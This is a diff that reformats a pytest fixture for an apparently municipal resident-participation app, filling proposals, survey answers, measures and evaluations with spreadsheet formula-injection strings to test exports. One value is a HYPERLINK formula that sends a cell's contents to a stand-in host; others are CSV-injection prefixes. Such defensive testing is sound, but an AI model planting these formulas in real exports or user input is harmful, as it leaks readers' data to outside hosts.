@@ -24,8 +24,14 @@ from app.proposals.rules import today
 from tests.panel.fixtures import _answers
 
 #: What a resident could type to have a spreadsheet run something on the reader's machine
-FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Klikk")', "+1", "-1+1", "@SUM(1)",
-            "\t=1", "\r=1"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?d="&A1,"Klikk")',
+    "+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+]
 _NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 
 
@@ -75,8 +81,9 @@ def config_overrides(tmp_path):
 
 
 @pytest.fixture
-def formulas_everywhere(open_proposal, survey, member, winner, strategy, compass_admin,
-                        service, publish):  # fmt: skip
+def formulas_everywhere(
+    open_proposal, survey, member, winner, strategy, compass_admin, service, publish
+):
     """Formulas in what residents write (a proposal, a free-text answer, a moment's story)
     and in what staff write (a survey question, a measure, an evaluation, a promise)."""
     first, second, third, fourth, fifth, sixth = FORMULAS
@@ -84,15 +91,24 @@ def formulas_everywhere(open_proposal, survey, member, winner, strategy, compass
     survey.questions[0].text = fifth
     db.session.commit()
     for _ in range(6):  # six answers: the results are shown, not suppressed
-        panel_services.submit_answers(member(area="Brekken", birth_year=1990), survey,
-                                      _answers(survey, text=first))  # fmt: skip
+        panel_services.submit_answers(
+            member(area="Brekken", birth_year=1990), survey, _answers(survey, text=first)
+        )
     survey.opens_on, survey.closes_on = date(2020, 1, 1), date(2020, 1, 31)
     winner(story=third, citation=first)
-    compass_services.save_measure(compass_admin, None, strategy=strategy, title=sixth,
-                                  description=first, focus_areas=[2], owner=fourth,
-                                  due_on=None)  # fmt: skip
-    compass_services.save_evaluation(compass_admin, None, year=today().year, evaluator=fifth,
-                                     total=400, scores={}, notes=first)  # fmt: skip
+    compass_services.save_measure(
+        compass_admin,
+        None,
+        strategy=strategy,
+        title=sixth,
+        description=first,
+        focus_areas=[2],
+        owner=fourth,
+        due_on=None,
+    )
+    compass_services.save_evaluation(
+        compass_admin, None, year=today().year, evaluator=fifth, total=400, scores={}, notes=first
+    )
     publish(service, promises=[PromiseInput(second, None, None)], about=third)
     db.session.commit()
     return survey
